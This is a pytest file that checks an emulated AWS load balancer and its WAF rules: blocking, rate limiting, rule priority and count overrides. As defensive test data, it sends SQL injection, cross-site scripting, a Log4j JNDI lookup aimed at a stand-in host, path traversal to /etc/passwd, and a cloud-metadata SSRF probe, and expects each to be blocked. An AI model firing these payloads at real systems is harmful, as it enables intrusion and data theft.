"""The ALB data plane of the emulator (infra/emulator/planes/alb.py) and its web ACL
evaluation (infra/emulator/planes/waf.py): through a real emulator (gunicorn over HTTPS, as
`infra up` starts it), boto3, and HTTPS requests to the load balancer's DNS name; the
evaluation's finer points directly on `evaluate`.

The load balancer, listener and web ACL are made as modules/edge makes them.
"""

from __future__ import annotations

import socket
import ssl
import uuid
from collections.abc import Iterator

import boto3
import pytest

from infra.emulator import launcher
from infra.emulator.planes.alb import _minimum
from infra.emulator.planes.waf import RateCounter, Request, evaluate
from infra.emulator.tls import issue
from modules.edge.construct import MANAGED_RULE_GROUPS
from tests.post_apply.conftest import HttpsTo

REGION = "sa-east-1"
DOMAIN = "example.test"
SITE = f"www.{DOMAIN}"
BROWSER = {"User-Agent": "Mozilla/5.0 (probe)"}


def managed_rules(override: str = "None") -> list[dict]:
    return [
        {
            "Name": group,
            "Priority": i + 1,
            "OverrideAction": {override: {}},
            "Statement": {
                "ManagedRuleGroupStatement": {
                    "VendorName": "AWS",
                    "Name": group,
                    "RuleActionOverrides": [{"Name": r, "ActionToUse": {"Count": {}}} for r in count_only],
                }
            },
            "VisibilityConfig": {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": group},
        }
        for i, (group, count_only) in enumerate(MANAGED_RULE_GROUPS.items())
    ]


def rate_rule(limit: int, priority: int = 10) -> dict:
    return {
        "Name": "RateLimitPerIp",
        "Priority": priority,
        "Action": {"Block": {}},
        "Statement": {"RateBasedStatement": {"Limit": limit, "AggregateKeyType": "IP"}},
        "VisibilityConfig": {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": "rate"},
    }


@pytest.fixture(scope="module")
def network(emulator) -> list[str]:
    ec2 = boto3.client("ec2", region_name=REGION)
    vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
    return [
        ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.9.{i}.0/24", AvailabilityZone=f"{REGION}{z}")["Subnet"]["SubnetId"]
        for i, z in enumerate("ab")
    ]


@pytest.fixture(scope="module")
def certificate(emulator) -> str:
    cert, key = issue(launcher.CERT_FILE.read_bytes(), launcher.KEY_FILE.read_bytes(), name=f"*.{DOMAIN}", ip=None)
    return boto3.client("acm", region_name=REGION).import_certificate(Certificate=cert, PrivateKey=key)[
        "CertificateArn"
    ]


def https_listener(lb_arn: str, certificate: str, status: str = "404", body: str = "not found") -> str:
    """An HTTPS listener on 443 as modules/edge makes it, answering a fixed response: its ARN."""
    listener = boto3.client("elbv2", region_name=REGION).create_listener(
        LoadBalancerArn=lb_arn,
        Protocol="HTTPS",
        Port=443,
        SslPolicy="ELBSecurityPolicy-TLS13-1-2-2021-06",
        Certificates=[{"CertificateArn": certificate}],
        DefaultActions=[
            {
                "Type": "fixed-response",
                "FixedResponseConfig": {"StatusCode": status, "ContentType": "text/plain", "MessageBody": body},
            }
        ],
    )["Listeners"][0]
    return str(listener["ListenerArn"])


def make_alb(network: list[str], certificate: str) -> tuple[str, str, str]:
    """An ALB with an HTTPS listener as modules/edge makes it: (its ARN, DNS name, listener ARN)."""
    elbv2 = boto3.client("elbv2", region_name=REGION)
    lb = elbv2.create_load_balancer(Name=f"alb-{uuid.uuid4().hex[:8]}", Subnets=network, Type="application")[
        "LoadBalancers"
    ][0]
    return lb["LoadBalancerArn"], lb["DNSName"], https_listener(lb["LoadBalancerArn"], certificate)


@pytest.fixture(scope="module")
def alb(network, certificate) -> Iterator[tuple[str, str]]:
    """An ALB behind a web ACL like ours (rate limit 100): (its ARN, its DNS name)."""
    arn, dns_name, _ = make_alb(network, certificate)
    wafv2 = boto3.client("wafv2", region_name=REGION)
    acl = wafv2.create_web_acl(
        Name="waf",
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=[*managed_rules(), rate_rule(100, len(MANAGED_RULE_GROUPS) + 1)],
        VisibilityConfig={"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": "waf"},
    )["Summary"]
    wafv2.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=arn)
    yield arn, dns_name
    boto3.client("elbv2", region_name=REGION).delete_load_balancer(LoadBalancerArn=arn)


def get(dns_name: str, target: str = "/", headers: dict | None = None, method: str = "GET", body: bytes | None = None):
    connection = HttpsTo(dns_name, SITE, ca=str(launcher.CERT_FILE))
    try:
        connection.request(method, target, body=body, headers={**BROWSER, **(headers or {})})
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def test_the_dns_name_is_the_albs_own_loopback_address_serving_the_listeners_certificate(alb):
    _, dns_name = alb
    assert dns_name.startswith("127.") and not dns_name.startswith("127.0.0.")
    context = ssl.create_default_context(cafile=str(launcher.CERT_FILE))
    with (
        socket.create_connection((dns_name, 443), timeout=5) as raw,
        context.wrap_socket(raw, server_hostname=SITE) as tls,
    ):
        cert = tls.getpeercert()
        assert tls.version() in ("TLSv1.2", "TLSv1.3")
    assert ("DNS", f"*.{DOMAIN}") in cert["subjectAltName"]


@pytest.mark.parametrize(
    ("what", "target", "headers", "body", "status"),
    [
        ("a plain request gets the listener's fixed response", "/", {}, None, 404),
        ("a search", "/search?q=courses+2024&page=2", {}, None, 404),
        ("a quote in a name", "/search?q=O%27Brien", {}, None, 404),
        ("SQL injection in the query", "/?id=1%27%20OR%20%271%27%3D%271", {}, None, 403),
        ("UNION SELECT in the query", "/items?id=1+UNION+SELECT+password+FROM+users", {}, None, 403),
        ("SQL injection in the body", "/login", {}, b"user=admin'--&pw=x", 403),
        ("cross-site scripting in the query", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, None, 403),
        ("an event handler in a tag", "/?q=<img+src=x+onerror=alert(1)>", {}, None, 403),
        ("Log4j in a header", "/", {"X-Api-Version": "${jndi:ldap://evil.test/a}"}, None, 403),
        ("obfuscated Log4j in the User-Agent", "/", {"User-Agent": "${${lower:j}ndi:ldap://x}"}, None, 403),
        ("no User-Agent", "/", {"User-Agent": ""}, None, 403),
        ("path traversal", "/static/../../etc/passwd", {}, None, 403),
        ("the instance metadata address", "/fetch?url=http://169.254.169.254/latest/", {}, None, 403),
    ],
)
def test_the_web_acl_decides_before_the_listener_answers(alb, what, target, headers, body, status):
    _, dns_name = alb
    found, _ = get(dns_name, target, headers, "POST" if body else "GET", body)
    assert found == status, f"{what}: expected {status}, found {found}"


def test_without_a_web_acl_nothing_is_blocked_and_with_it_again_it_is(alb):
    arn, dns_name = alb
    wafv2 = boto3.client("wafv2", region_name=REGION)
    acl_arn = wafv2.get_web_acl_for_resource(ResourceArn=arn)["WebACL"]["ARN"]
    attack = "/?id=1%27%20OR%20%271%27%3D%271"
    wafv2.disassociate_web_acl(ResourceArn=arn)
    try:
        assert get(dns_name, attack)[0] == 404
    finally:
        wafv2.associate_web_acl(WebACLArn=acl_arn, ResourceArn=arn)
    assert get(dns_name, attack)[0] == 403


def test_an_updated_web_acl_applies_at_the_next_request(alb):
    arn, dns_name = alb
    wafv2 = boto3.client("wafv2", region_name=REGION)
    summary = wafv2.get_web_acl_for_resource(ResourceArn=arn)["WebACL"]
    acl = wafv2.get_web_acl(Name=summary["Name"], Scope="REGIONAL", Id=summary["Id"])
    rules, token = acl["WebACL"]["Rules"], acl["LockToken"]
    update = {k: acl["WebACL"][k] for k in ("Name", "Id", "DefaultAction", "VisibilityConfig")}
    xss = "/?q=%3Cscript%3Ealert(1)%3C/script%3E"
    token = wafv2.update_web_acl(
        Scope="REGIONAL",
        LockToken=token,
        Rules=[r for r in rules if r["Name"] != "AWSManagedRulesCommonRuleSet"],
        **update,
    )["NextLockToken"]
    try:
        assert get(dns_name, xss)[0] == 404
    finally:
        wafv2.update_web_acl(Scope="REGIONAL", LockToken=token, Rules=rules, **update)
    assert get(dns_name, xss)[0] == 403


def test_nothing_listens_after_the_listener_or_the_alb_is_deleted(network, certificate):
    elbv2 = boto3.client("elbv2", region_name=REGION)
    arn, dns_name, listener = make_alb(network, certificate)
    assert get(dns_name)[0] == 404
    elbv2.delete_listener(ListenerArn=listener)
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection((dns_name, 443), timeout=5).close()
    assert https_listener(arn, certificate, status="200", body="ok")
    assert get(dns_name) == (200, b"ok")
    elbv2.delete_load_balancer(LoadBalancerArn=arn)
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection((dns_name, 443), timeout=5).close()


def test_the_rate_rule_blocks_a_source_beyond_its_limit(alb):
    """Limit 100 per 5 minutes: a burst of 150 from this address is blocked from the 101st
    counted request on (the module's earlier requests count too)."""
    _, dns_name = alb
    connection = HttpsTo(dns_name, SITE, ca=str(launcher.CERT_FILE))
    statuses = []
    try:
        for _ in range(150):
            connection.request("GET", "/", headers=BROWSER)
            response = connection.getresponse()
            response.read()
            statuses.append(response.status)
    finally:
        connection.close()
    assert statuses[0] == 404 and statuses[-1] == 403
    assert statuses.index(403) <= 100 and set(statuses[statuses.index(403) :]) == {403}


# --- the evaluation itself ---------------------------------------------------------------------


def test_the_tls_policy_sets_the_oldest_version():
    assert _minimum("ELBSecurityPolicy-TLS13-1-2-2021-06") == ssl.TLSVersion.TLSv1_2
    assert _minimum("ELBSecurityPolicy-TLS13-1-3-2021-06") == ssl.TLSVersion.TLSv1_3


def request(target: str = "/", **headers: str) -> Request:
    return Request("GET", target, tuple({"User-Agent": "probe", **headers}.items()))


def test_a_rule_overridden_to_count_counts_and_does_not_block():
    rules = managed_rules()
    rules[0]["Statement"]["ManagedRuleGroupStatement"]["RuleActionOverrides"] = [
        {"Name": "CrossSiteScripting_QUERYARGUMENTS", "ActionToUse": {"Count": {}}}
    ]
    verdict = evaluate(rules, {"Allow": {}}, request("/?q=<script>"), RateCounter())
    assert not verdict.blocked
    assert verdict.counted == ("AWSManagedRulesCommonRuleSet:CrossSiteScripting_QUERYARGUMENTS",)


def test_a_group_with_override_action_count_only_counts():
    verdict = evaluate(managed_rules("Count"), {"Allow": {}}, request("/?id=1' or '1'='1"), RateCounter())
    assert not verdict.blocked and verdict.counted == ("AWSManagedRulesSQLiRuleSet:SQLi_QUERYARGUMENTS",)


def test_the_first_rule_by_priority_decides_and_the_default_action_applies_last():
    allow_all = {**rate_rule(0, priority=0), "Name": "AllowEverything", "Action": {"Allow": {}}}
    assert not evaluate([*managed_rules(), allow_all], {"Block": {}}, request("/?q=<script>"), RateCounter()).blocked
    verdict = evaluate(managed_rules(), {"Block": {}}, request("/"), RateCounter())
    assert verdict.blocked and verdict.rule is None and verdict.status == 403


def test_the_rate_rule_counts_per_source_in_its_window():
    rates, rules = RateCounter(), [rate_rule(3)]

    def status(source: str, at: float) -> bool:
        call = Request("GET", "/", (("User-Agent", "x"),), b"", source)
        return evaluate(rules, {"Allow": {}}, call, rates, now=at).blocked

    assert [status("10.0.0.1", t) for t in (0, 1, 2, 3)] == [False, False, False, True]
    assert not status("10.0.0.2", 4)  # another source has its own count
    assert not status("10.0.0.1", 302)  # the window moved on: only 3 and this one


def test_an_alb_of_the_same_name_in_another_emulator_gets_another_address():
    """Its address is held from its creation: two emulators on one machine (a test run and
    `infra up` of the same environment) must not serve one ALB's probes from the other's."""
    from types import SimpleNamespace

    from infra.emulator.planes.alb import AlbPlane

    lb = SimpleNamespace(name="twin-alb", dns_name="twin-alb.elb.amazonaws.com")
    first = AlbPlane(None, lb)
    second = AlbPlane(None, lb)  # as another emulator's ALB of the same name, before any listener
    try:
        assert first.address != second.address
    finally:
        first.stop()
        second.stop()
